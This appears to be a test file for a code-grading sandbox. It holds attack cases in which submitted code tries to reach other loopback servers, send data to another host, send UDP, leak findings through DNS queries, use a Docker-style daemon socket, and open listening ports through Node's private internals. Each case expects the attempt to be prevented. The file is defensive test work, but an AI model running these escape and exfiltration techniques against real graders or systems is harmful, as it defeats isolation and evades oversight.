/** On the network that the grader's machine is in. */
import { connect } from 'node:net';
import { expect } from 'vitest';
import { type Attack, attacker, source } from '../attack.ts';
import { OTHER_HOST } from '../world.ts';

const everyClient = (host: string, port: number) => `import net from 'node:net';
import tls from 'node:tls';
import https from 'node:https';
import http2 from 'node:http2';
import pg from 'pg';
const host = ${source(host)};
const port = ${port};
const opened = (socket: any) => new Promise((resolve, reject) => socket.on('connect', () => resolve('connected')).on('error', reject));
await attempt('net', () => opened(net.connect(port, host)));
await attempt('name', () => opened(net.connect({ port, host: host === '127.0.0.1' ? 'localhost' : host })));
await attempt('object', () => opened(net.connect({ port, host: { toString: () => host } as any })));
await attempt('mapped', () => opened(net.connect(port, '::ffff:' + host)));
await attempt('tls', () => opened(tls.connect(port, host)));
await attempt('http', () => new Promise((resolve, reject) => http.get({ host, port }, resolve).on('error', reject)));
await attempt('https', () => new Promise((resolve, reject) => https.get({ host, port }, resolve).on('error', reject)));
await attempt('http2', () => opened(http2.connect('http://' + host + ':' + port)));
await attempt('fetch', async () => (await fetch('http://' + host + ':' + port)).status);
await attempt('WebSocket', () => new Promise((resolve, reject) => { const socket = new WebSocket('ws://' + host + ':' + port); socket.onopen = resolve; socket.onerror = reject; }));
await attempt('pg', () => new pg.Client({ host, port, user: 'x', connectionTimeoutMillis: 400 }).connect());
await attempt('handle', () => {
  const own = new net.Socket();
  own.on('error', () => {});
  own.connect(port, host);
  const { constructor } = Object.getPrototypeOf((own as any)._handle);
  const handle = new constructor(0);
  const status = handle.connect({ oncomplete() {} }, host, port);
  if (status !== 0) throw new Error(String(status));
  return new Promise((resolve) => setTimeout(resolve, 100, 'connecting'));
});`;

export const NETWORK_ATTACKS: readonly Attack[] = [
  {
    name: 'knocks at other servers of the machine',
    tries:
      "Connects to a port of loopback that is neither its own nor its database's: another grading, a server without a password.",
    outcome: 'prevented',
    unguarded: ['knocks'],
    files: ({ port }) => attacker(everyClient('127.0.0.1', port)),
    also: ({ answer }) => expect(answer).toBe('loot\n'),
  },
  {
    name: 'calls other hosts',
    tries: 'Sends what it knows to a host of its own (here: another address of loopback).',
    outcome: 'prevented',
    unguarded: ['knocks'],
    files: ({ otherHostPort }) => attacker(everyClient(OTHER_HOST, otherHostPort)),
    also: ({ answer }) => expect(answer).toBe('loot\n'),
  },
  {
    name: 'sends datagrams',
    tries: 'Sends UDP, which needs no connection.',
    outcome: 'prevented',
    unguarded: ['knocks'],
    files: ({ udpPort }) =>
      attacker(`import dgram from 'node:dgram';
for (const type of ['udp4', 'udp6'] as const) await attempt(type, () => new Promise((resolve, reject) => {
  const socket = dgram.createSocket(type);
  socket.on('error', reject);
  socket.send('x', ${udpPort}, type === 'udp4' ? '127.0.0.1' : '::ffff:127.0.0.1', (error) => (error ? reject(error) : resolve('sent')));
}));
await attempt('connect', () => new Promise((resolve, reject) => {
  const socket = dgram.createSocket('udp4');
  socket.on('error', reject);
  socket.connect(${udpPort}, '127.0.0.1', () => socket.send('x', () => resolve('sent')));
}));`),
    also: ({ answer }) => expect(answer).toBe('loot\n'),
  },
  {
    name: 'smuggles words out in names of hosts',
    tries: 'Asks a name server of its own for names that hold what it found.',
    outcome: 'prevented',
    unguarded: ['knocks'],
    files: ({ udpPort }) =>
      attacker(`import dns, { promises } from 'node:dns';
const server = '127.0.0.1:${udpPort}';
await attempt('servers', () => dns.setServers([server]));
const own = new promises.Resolver({ timeout: 200, tries: 1 });
await attempt('own servers', () => own.setServers([server]));
for (const ask of ['resolve4', 'resolveTxt', 'reverse'] as const) {
  await attempt(ask, () => (own as any)[ask](ask === 'reverse' ? '127.0.0.9' : 'found.example'));
  await attempt('module ' + ask, () => (promises as any)[ask](ask === 'reverse' ? '127.0.0.9' : 'found.example'));
}
await attempt('lookup', () => promises.lookup('found.example'));
await attempt('service', () => promises.lookupService('127.0.0.9', 80));`),
    also: ({ answer }) => expect(answer).not.toMatch(/resolve|reverse|lookup|service/),
  },
  {
    name: "takes the way of Docker's socket",
    tries:
      'Connects to a socket in the file system, behind which a daemon does what it is told, and makes one of its own there.',
    outcome: 'prevented',
    unguarded: ['knocks', 'homeChanged'],
    files: ({ socketPath, home }) =>
      attacker(`import net from 'node:net';
await attempt('net', () => new Promise((resolve, reject) => net.connect(${source(socketPath)}).on('connect', () => resolve('connected')).on('error', reject)));
await attempt('http', () => new Promise((resolve, reject) => http.get({ socketPath: ${source(socketPath)} }, resolve).on('error', reject)));
await attempt('listen', () => new Promise((resolve, reject) => net.createServer().listen(${source(`${home}/planted.sock`)}, () => resolve('listening')).on('error', reject)));`),
    also: ({ answer }) => expect(answer).toBe('loot\n'),
  },
  {
    name: 'opens a door to the network',
    tries:
      'Listens on all addresses of the machine, on a port that it chose, past the function that Node has for that.',
    outcome: 'prevented',
    files: ({ freePort }) =>
      attacker(`import net from 'node:net';
import http2 from 'node:http2';
const port = ${freePort};
net.createServer().on('error', () => {}).listen(port, '0.0.0.0');
http2.createServer().on('error', () => {}).listen({ port, host: '0.0.0.0' });
await attempt('inner', () => { const server: any = net.createServer().on('error', () => {}); server._listen2('0.0.0.0', port, 4, 511); return server.address() ?? Promise.reject(); });
await attempt('handle', () => { const handle = (net as any)._createServerHandle('0.0.0.0', port, 4); return typeof handle === 'number' ? Promise.reject() : handle.listen(511); });
await attempt('everybody', () => { const server: any = net.createServer().on('error', () => {}); server._listen2('0.0.0.0', 0, 4, 511); return server.address() ?? Promise.reject(); });`),
    async also({ answer }, { freePort }) {
      expect(answer).toBe('loot\n');
      expect(await isOpen(OTHER_HOST, freePort)).toBe(false);
      expect(await isOpen('127.0.0.1', freePort)).toBe(false);
    },
  },
];

const isOpen = (host: string, port: number) =>
  new Promise<boolean>((resolve) => {
    const socket = connect(port, host);
    socket.on('connect', () => resolve(true)).on('error', () => resolve(false));
  });
